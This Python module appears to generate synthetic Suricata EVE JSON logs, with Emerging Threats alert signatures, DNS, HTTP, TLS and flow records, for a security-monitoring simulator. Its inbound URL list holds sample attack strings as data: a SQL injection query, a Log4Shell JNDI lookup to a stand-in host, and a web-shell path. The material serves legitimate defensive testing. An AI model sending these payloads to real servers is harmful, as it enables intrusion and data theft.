"""Suricata EVE JSON (``eve.json``) of an on-site IDS: alerts and the protocol records around
them (dns, http, tls, flow), in the shapes Suricata 6/7 writes."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta

from socd.simulate.common import (
    SITES,
    USER_AGENTS,
    Event,
    Site,
    client_port,
    compact_offset,
    external_ip,
    internal_ip,
    sensor_clock,
)


@dataclass(frozen=True, slots=True)
class _Signature:
    """One IDS signature and the traffic it fires on."""

    sid: int
    msg: str
    category: str  # the classtype's description in classification.config
    severity: int  # the classtype's priority there: 1 the most severe
    app: str  # app_proto: http, tls, dns, smtp, smb, ssh, ftp, "" (none)
    ports: tuple[int, ...]
    direction: str  # in: external → internal server; out: workstation → external; lateral
    signature_severity: str  # ET metadata: Informational, Minor, Major, Critical
    technique: str = ""
    tactic: str = ""
    cve: str = ""
    weight: float = 1.0


# ET Open (sids 2000000-2999999 … 2xxxxxx) and ET Pro (28xxxxx) signature families, each
# with the classtype its rules use and that classtype's priority in Suricata's
# classification.config: trojan-activity, command-and-control, exploit-kit,
# credential-theft, web-application-attack, attempted-admin, unsuccessful-user → 1;
# attempted-recon, bad-unknown, misc-attack, attempted-dos, coin-mining → 2;
# not-suspicious, misc-activity → 3. A priority-1 alert is therefore not always grave (ET's
# brute-force rules are "Unsuccessful User Privilege Gain"), nor a priority-2 one harmless.
_SIGNATURES: tuple[_Signature, ...] = (
    # background: package managers, scripted clients, scanners, block lists
    _Signature(2013504, "ET POLICY GNU/Linux APT User-Agent Outbound likely related to "
               "package management", "Not Suspicious Traffic", 3, "http", (80,), "out",
               "Informational", weight=5),
    _Signature(2241190, "ET INFO Outbound scripted HTTP client User-Agent", "Misc activity", 3,
               "http", (80,), "out", "Informational", weight=3),
    _Signature(2001569, "ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or "
               "Infection", "Misc activity", 3, "", (445,), "lateral", "Minor", "T1046",
               "TA0007", weight=1),
    _Signature(2018489, "ET SCAN NMAP OS Detection Probe", "Attempted Information Leak", 2, "",
               (80, 443, 3389, 8080), "in", "Informational", "T1595", "TA0043", weight=4),
    _Signature(2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "ssh",
               (22,), "in", "Minor", "T1110", "TA0006", weight=4),
    _Signature(2402000, "ET DROP Dshield Block Listed Source group 1", "Misc Attack", 2, "",
               (22, 23, 445, 3389), "in", "Major", weight=4),
    _Signature(2522042, "ET TOR Known Tor Relay/Router (Not Exit) Node Traffic group 42",
               "Misc Attack", 2, "tls", (443, 9001), "out", "Minor", "T1090", "TA0011",
               weight=2),
    _Signature(2024792, "ET POLICY Cryptocurrency Miner Checkin", "Crypto Currency Mining "
               "Activity Detected", 2, "", (3333, 4444), "out", "Major", "T1496", "TA0040",
               weight=1.5),
    _Signature(2240310, "ET INFO DYNAMIC_DNS Query to *.dyn-home .example Domain",
               "Potentially Bad Traffic", 2, "dns", (53,), "out", "Informational", "T1071",
               "TA0011", weight=3),
    _Signature(2019102, "ET DOS Possible NTP DDoS Inbound Frequent Un-Authed MON_LIST "
               "Requests IMPL 0x03", "Attempted Denial of Service", 2, "", (123,), "in",
               "Major", "T1498", "TA0040", weight=1),
    _Signature(2840227, "ETPRO HUNTING Generic Inbound URI Directory Traversal",
               "Potentially Bad Traffic", 2, "http", (80, 443), "in", "Minor", weight=1.5),
    _Signature(2002383, "ET SCAN Potential FTP Brute-Force attempt", "Unsuccessful User "
               "Privilege Gain", 1, "ftp", (21,), "in", "Major", "T1110", "TA0006",
               weight=1),
    # attacks on the networks' servers
    _Signature(2006446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
               "Web Application Attack", 1, "http", (80, 443), "in", "Major", "T1190",
               "TA0001", weight=3),
    _Signature(2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (Inbound) "
               "(CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1, "http",
               (80, 8080), "in", "Critical", "T1190", "TA0001", "CVE_2021_44228", weight=2),
    _Signature(2033957, "ET EXPLOIT Apache HTTP Server 2.4.49 - Path Traversal Attempt "
               "(CVE-2021-41773) M2", "Attempted Administrator Privilege Gain", 1, "http",
               (80, 443), "in", "Major", "T1190", "TA0001", "CVE_2021_41773", weight=1),
    _Signature(2016683, "ET WEB_SERVER WebShell Generic - wget http - POST",
               "A Network Trojan was detected", 1, "http", (80, 443), "in", "Critical",
               "T1505", "TA0003", weight=1),
    _Signature(2024218, "ET EXPLOIT Possible ETERNALBLUE Probe MS17-010 (MSF style)",
               "Attempted Administrator Privilege Gain", 1, "smb", (445,), "lateral",
               "Critical", "T1210", "TA0008", "CVE_2017_0144", weight=1),
    # infected hosts inside
    _Signature(2238871, "ET MALWARE Cobalt Strike Beacon TLS Certificate Observed",
               "Malware Command and Control Activity Detected", 1, "tls", (443,), "out",
               "Critical", "T1071", "TA0011", weight=1.5),
    _Signature(2852870, "ETPRO MALWARE Win32/AsyncRAT CnC Checkin",
               "Malware Command and Control Activity Detected", 1, "tls", (6606, 7707, 8808),
               "out", "Critical", "T1071", "TA0011", weight=0.8),
    _Signature(2854311, "ETPRO MALWARE Win32/Qakbot CnC Activity (POST)",
               "Malware Command and Control Activity Detected", 1, "http", (443, 2222), "out",
               "Critical", "T1071", "TA0011", weight=0.6),
    _Signature(2030171, "ET MALWARE AgentTesla Exfil Via SMTP", "A Network Trojan was "
               "detected", 1, "smtp", (587, 25), "out", "Critical", "T1048", "TA0010",
               weight=1),
    _Signature(2032451, "ET EXPLOIT_KIT RIG EK Landing Page M2", "Exploit Kit Activity "
               "Detected", 1, "http", (80,), "out", "Major", "T1189", "TA0001", weight=0.4),
    _Signature(2049102, "ET PHISHING Successful Government Webmail Credential Phish "
               "2026-02-10", "Successful Credential Theft Detected", 1, "http", (80, 443),
               "out", "Major", "T1566", "TA0001", weight=0.7),
)
_DOMAINS = ("cdn-static-content.example", "update-service.example", "api.telemetry.example",
            "files-transfer.example", "dyn-home.example", "news-portal.example",
            "mail.smtp-relay.example", "pool.coin-mine.example", "tor-relay.example")
_URLS_IN = ("/index.php?id=1%20UNION%20SELECT%20user,pass%20FROM%20users", "/login",
            "/wp-admin/admin-ajax.php", "/api/v1/search?q=${jndi:ldap://x.example/a}",
            "/uploads/shell.php", "/dichvucong/hoso?ma=2024")
_URLS_OUT = ("/update/check", "/v2/collect", "/dl/setup.exe", "/news/today.html", "/")
_RRTYPES = ("A", "A", "A", "AAAA", "MX", "TXT", "PTR")
_RECORD_TYPES = ("alert", "dns", "http", "tls", "flow")
_RECORD_WEIGHTS = (35, 25, 15, 15, 10)


def _ends(rng: random.Random, site: Site, direction: str) -> tuple[str, str]:
    if direction == "in":
        return external_ip(rng), internal_ip(rng, site, server=True)
    if direction == "lateral":
        return internal_ip(rng, site, server=False), internal_ip(rng, site, server=True)
    return internal_ip(rng, site, server=False), external_ip(rng)


def _community_id(rng: random.Random) -> str:
    return "1:" + base64.b64encode(rng.getrandbits(160).to_bytes(20, "big")).decode()


def _flow_counts(rng: random.Random, start: datetime, *, end: datetime | None) -> Event:
    to_server = rng.randint(1, 40)
    to_client = rng.randint(0, 60)
    flow: Event = {
        "pkts_toserver": to_server, "pkts_toclient": to_client,
        "bytes_toserver": to_server * rng.randint(60, 1500),
        "bytes_toclient": to_client * rng.randint(60, 1500),
        "start": compact_offset(start),
    }
    if end is not None:
        flow.update({"end": compact_offset(end), "age": int((end - start).total_seconds()),
                     "state": rng.choice(("closed", "established", "new")),
                     "reason": rng.choice(("timeout", "timeout", "shutdown")),
                     "alerted": rng.random() < 0.1})
    return flow


def _http(rng: random.Random, host: str, *, inbound: bool) -> Event:
    method = rng.choice(("GET", "GET", "POST")) if inbound else "GET"
    return {"hostname": host, "url": rng.choice(_URLS_IN if inbound else _URLS_OUT),
            "http_user_agent": rng.choice(USER_AGENTS), "http_content_type": "text/html",
            "http_method": method, "protocol": "HTTP/1.1",
            "status": rng.choice((200, 200, 301, 403, 404, 500)),
            "length": rng.randint(0, 40000)}


def _tls(rng: random.Random, host: str) -> Event:
    version = rng.choice(("TLS 1.2", "TLS 1.3", "TLS 1.3"))
    tls: Event = {"sni": host, "version": version,
                  "ja3": {"hash": f"{rng.getrandbits(128):032x}"},
                  "ja3s": {"hash": f"{rng.getrandbits(128):032x}"}}
    if version == "TLS 1.2":  # the certificate is visible before 1.3
        tls.update({"subject": f"CN={host}", "issuerdn": "C=VN, O=Example Trust, CN=Example "
                    "TLS CA R2", "serial": ":".join(f"{rng.getrandbits(8):02X}"
                                                     for _ in range(8)),
                    "notbefore": "2025-06-01T00:00:00", "notafter": "2026-09-01T23:59:59"})
    return tls


def _alert(rng: random.Random, site: Site, base: Event, now: datetime) -> Event:
    sig = rng.choices(_SIGNATURES, weights=[s.weight for s in _SIGNATURES])[0]
    src, dst = _ends(rng, site, sig.direction)
    host = rng.choice(site.portals) if sig.direction == "in" else rng.choice(_DOMAINS)
    alert: Event = {"action": "allowed" if rng.random() < 0.8 else "blocked", "gid": 1,
                    "signature_id": sig.sid, "rev": rng.randint(1, 9), "signature": sig.msg,
                    "category": sig.category, "severity": sig.severity}
    metadata: dict[str, list[str]] = {"created_at": ["2023_04_11"], "updated_at": ["2025_11_03"],
                                      "signature_severity": [sig.signature_severity]}
    if sig.technique:
        metadata.update(mitre_technique_id=[sig.technique], mitre_tactic_id=[sig.tactic])
    if sig.cve:
        metadata["cve"] = [sig.cve]
    alert["metadata"] = metadata
    port = rng.choice(sig.ports)
    record: Event = {**base, "event_type": "alert", "src_ip": src, "src_port": client_port(rng),
                     "dest_ip": dst, "dest_port": port,
                     "proto": "UDP" if port in (53, 123) else "TCP", "direction": "to_server",
                     "alert": alert}
    if sig.app:
        record["app_proto"] = sig.app
    if sig.app == "http":
        record["http"] = _http(rng, host, inbound=sig.direction == "in")
        record["tx_id"] = 0
    elif sig.app == "tls":
        record["tls"] = _tls(rng, host)
    elif sig.app == "dns":
        record["dns"] = {"type": "query", "id": rng.randint(1, 65535), "rrname": host,
                         "rrtype": "A", "tx_id": 0}
    record["flow"] = _flow_counts(rng, now - timedelta(seconds=rng.uniform(0, 30)), end=None)
    return record


def _protocol_record(rng: random.Random, site: Site, kind: str, base: Event,
                     now: datetime) -> Event:
    client = internal_ip(rng, site, server=False)
    host = rng.choice(_DOMAINS + site.portals)
    record: Event = {**base, "src_ip": client, "src_port": client_port(rng), "proto": "TCP"}
    if kind == "dns":
        resolver = f"10.{site.octet}.10.53"
        query = {"type": "query", "id": rng.randint(1, 65535), "rrname": host,
                 "rrtype": rng.choice(_RRTYPES), "tx_id": 0}
        record.update(event_type="dns", dest_ip=resolver, dest_port=53, proto="UDP",
                      dns=query)
        if rng.random() < 0.5:  # the resolver's answer, seen on the way back
            answer: Event = {"version": 2, "type": "answer", "id": query["id"],
                             "flags": "8180", "qr": True, "rd": True, "ra": True,
                             "rrname": host, "rrtype": query["rrtype"],
                             "rcode": rng.choice(("NOERROR", "NOERROR", "NXDOMAIN"))}
            if answer["rcode"] == "NOERROR" and query["rrtype"] == "A":
                answer["answers"] = [{"rrname": host, "rrtype": "A", "ttl": 300,
                                      "rdata": external_ip(rng)}]
            record.update(src_ip=resolver, src_port=53, dest_ip=client,
                          dest_port=record["src_port"], dns=answer)
        return record
    record.update(dest_ip=external_ip(rng))
    if kind == "http":
        record.update(event_type="http", dest_port=80, tx_id=0, app_proto="http",
                      http=_http(rng, host, inbound=False))
    elif kind == "tls":
        record.update(event_type="tls", dest_port=443, app_proto="tls", tls=_tls(rng, host))
    else:
        start = now - timedelta(seconds=rng.uniform(1, 300))
        record.update(event_type="flow", dest_port=rng.choice((443, 80, 53, 123, 8443)),
                      app_proto=rng.choice(("tls", "http", "failed")),
                      flow=_flow_counts(rng, start, end=now))
        if record["dest_port"] in (53, 123):
            record["proto"] = "UDP"
    return record


def suricata_events(
    rng: random.Random, *, start: datetime, rate_hint: float = 1.0
) -> Iterator[Event]:
    """EVE JSON records, forever, deterministic for a given ``rng``: about a third alerts
    (``alert.severity`` 1-3 with ET-style metadata), the rest dns, http, tls and flow
    records. ``timestamp`` is local time with the offset written ``+0700``, as Suricata
    writes it."""
    clock = sensor_clock(rng, start, rate_hint)
    while True:
        now = next(clock)
        site = rng.choice(SITES)
        base: Event = {"timestamp": compact_offset(now),
                       "flow_id": rng.randint(10**14, 2**51 - 1),
                       "in_iface": rng.choice(("ens192", "ens224")),
                       "host": f"ids-{site.code}-{rng.randint(1, 2):02d}"}
        kind = rng.choices(_RECORD_TYPES, weights=_RECORD_WEIGHTS)[0]
        record = (_alert(rng, site, base, now) if kind == "alert"
                  else _protocol_record(rng, site, kind, base, now))
        record["community_id"] = _community_id(rng)
        yield record


def flow_id_key(record: Event) -> bytes | None:
    """An EVE record's Kafka key: its ``flow_id`` (the records of one flow stay in order)."""
    flow_id = record.get("flow_id")
    return str(flow_id).encode() if flow_id is not None else None
